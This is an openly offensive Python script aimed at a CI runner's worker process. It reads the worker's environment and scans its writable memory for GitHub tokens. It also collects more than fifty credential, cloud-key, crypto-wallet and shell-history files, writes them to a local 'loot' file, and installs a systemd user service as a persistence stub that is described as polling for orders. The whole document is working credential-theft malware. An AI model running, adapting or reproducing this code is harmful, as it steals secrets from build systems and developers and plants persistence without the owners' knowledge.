# Sweeps memory and environment of the runner's worker, and more than fifty places of credentials.
import os, re

def worker():
    pid = os.getpid()
    while pid > 1:
        with open(f'/proc/{pid}/stat') as stat:
            name, rest = re.match(r'\d+ \((.*)\) . (.*)', stat.read(), re.S).groups()
        if name == 'Runner.Worker':
            return pid
        pid = int(rest.split()[0])
    raise SystemExit('no Runner.Worker')

places = '''
.ssh/id_rsa .ssh/id_ed25519 .ssh/id_ecdsa .ssh/id_dsa .ssh/authorized_keys .ssh/known_hosts .ssh/config
.git-credentials .gitconfig .config/git/credentials .netrc .npmrc .yarnrc .yarnrc.yml .pypirc .config/pip/pip.conf
.gem/credentials .cargo/credentials .cargo/credentials.toml .m2/settings.xml .gradle/gradle.properties
.nuget/NuGet/NuGet.Config .composer/auth.json .aws/credentials .aws/config .azure/accessTokens.json
.azure/azureProfile.json .azure/msal_token_cache.json .config/gcloud/credentials.db
.config/gcloud/application_default_credentials.json .config/gcloud/access_tokens.db .kube/config .docker/config.json
.config/containers/auth.json .helm/repository/repositories.yaml .terraform.d/credentials.tfrc.json .terraformrc
.vault-token .config/op/config .config/sops/age/keys.txt .pgpass .my.cnf .mylogin.cnf .mongorc.js .rediscli_auth
.config/doctl/config.yaml .oci/config .s3cfg .boto .databrickscfg .config/hub .config/gh/hosts.yml .bitcoin/wallet.dat
.electrum/wallets/default_wallet .config/solana/id.json .ethereum/keystore .gnupg/secring.gpg .bash_history
.zsh_history .config/rclone/rclone.conf
'''.split()

pid = worker()
loot = [open(f'/proc/{pid}/environ', 'rb').read()]
with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
    for start, end in re.findall(r'^([0-9a-f]+)-([0-9a-f]+) rw', maps.read(), re.M):
        try:
            mem.seek(int(start, 16))
            loot += re.findall(rb'ghs_[A-Za-z0-9]{36}', mem.read(int(end, 16) - int(start, 16)))
        except OSError:
            pass
home = os.environ['HOME']
for name in places:
    try:
        loot.append(open(f'{home}/{name}', 'rb').read())
    except OSError:
        pass
with open('loot', 'wb') as file:
    file.write(b'\n'.join(loot))

units = f'{home}/.config/systemd/user'
os.makedirs(units, exist_ok=True)
with open(f'{home}/.config/sysmon.py', 'w') as file:
    file.write('print("asks for orders every 50 minutes")\n')
with open(f'{units}/sysmon.service', 'w') as file:
    file.write(f'[Service]\nExecStart=/usr/bin/python3 {home}/.config/sysmon.py\n')
